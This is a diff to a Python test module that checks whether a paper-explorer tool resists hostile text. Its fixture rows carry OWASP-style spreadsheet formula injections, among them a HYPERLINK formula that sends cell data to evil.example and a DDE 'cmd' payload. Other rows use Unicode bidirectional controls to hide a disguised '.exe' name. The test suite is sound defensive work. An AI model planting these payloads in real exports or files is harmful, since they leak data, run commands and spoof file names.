@@ -1,7 +1,79 @@
 """Attack tests: loopback only, bounded in count and time (README "Hosting").
 
 Each test plays a visitor or an attacker against a real server or a real artifact, and
-asserts what the attack could not do. The browser fixtures are the end-to-end suite's.
+asserts what the attack could not do. The browser fixtures (`browser`, `page`) are
+tests/conftest.py's, shared with the end-to-end suite.
 """
 
-from tests.e2e.conftest import browser, page  # noqa: F401  (fixtures re-exported)
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+
+# Cells a spreadsheet would run (OWASP's CSV injection examples), planted as corpus text.
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/x?d="&B2,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+)
+# Unicode's bidirectional controls: embeddings, overrides, isolates and marks.
+BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
+BIDI_MARK = "BIDIMARK"  # visible text beside every planted control, to find where it shows
+HOSTILE = "hostile"
+_ABSTRACT = "We study robustness of neural networks to adversarial examples."
+
+
+def hostile_rows() -> list[dict]:
+    """Papers whose title, authors and venue are formulas, and one whose every text field
+    hides each bidirectional control between visible words."""
+    rows = [
+        {"id": f"formula{i}", "title": f, "authors": f, "venue": f, "year": 2024,
+         "abstract": f"{_ABSTRACT} Formula {i}: {f}"}
+        for i, f in enumerate(FORMULAS)
+    ]  # fmt: skip
+    hidden = f"{BIDI_MARK} start {BIDI} gnp.exe end"
+    rows.append(
+        {"id": "bidi", "title": f"Title {hidden}", "authors": f"Alice {hidden}",
+         "venue": "ICML", "year": 2024, "abstract": f"{_ABSTRACT} Abstract {hidden}"}
+    )  # fmt: skip
+    return rows
+
+
+@pytest.fixture(scope="session")
+def hostile_text_cache(seed_cache, tmp_path_factory) -> Path:
+    """A real build named 'hostile' (the seed and planted abstracts plus `hostile_rows`),
+    curated: one topic renamed to a formula, another to a label hiding the controls (left
+    by an older version: refused today, so never applied, and shown neutralised)."""
+    from explorer.artifacts import open_run
+    from explorer.build.pipeline import build
+    from tests.conftest import build_config, topic_ids
+    from tests.planted import write_planted
+
+    root = tmp_path_factory.mktemp("hostile-text")
+    cache = root / "cache"
+    shutil.copytree(seed_cache / "embeddings", cache / "embeddings")
+    inputs = write_planted(root / "inputs", hostile_rows())
+    build(build_config(HOSTILE, inputs), cache_dir=cache, progress=False, log=lambda m: None)
+    run = open_run(cache, HOSTILE)
+    first, second = topic_ids(run)[:2]
+    # A history an older version wrote: today's `record` refuses the second label.
+    write_legacy(cache / HOSTILE, run, {first: FORMULAS[0], second: f"{BIDI_MARK} label {BIDI} x"})
+    return cache
+
+
+def write_legacy(corpus_dir: Path, run, labels: dict[str, str]) -> None:
+    """A schema-1 curation.json as the old code wrote it (json.dumps, members in every
+    change), renaming topics to `labels`: what an older version left on disk."""
+    papers = run.table("papers")
+    changes = [
+        {"id": i, "op": "rename", "node": node, "label": label,
+         "members": {node: sorted(papers.loc[papers["topic_id"] == node, "paper_id"])},
+         "source": "cli", "time": "2026-01-01T00:00:00+00:00"}
+        for i, (node, label) in enumerate(labels.items(), 1)
+    ]  # fmt: skip
+    text = json.dumps({"schema": 1, "changes": changes}, indent=1)
+    (corpus_dir / "curation.json").write_text(text, encoding="utf-8")
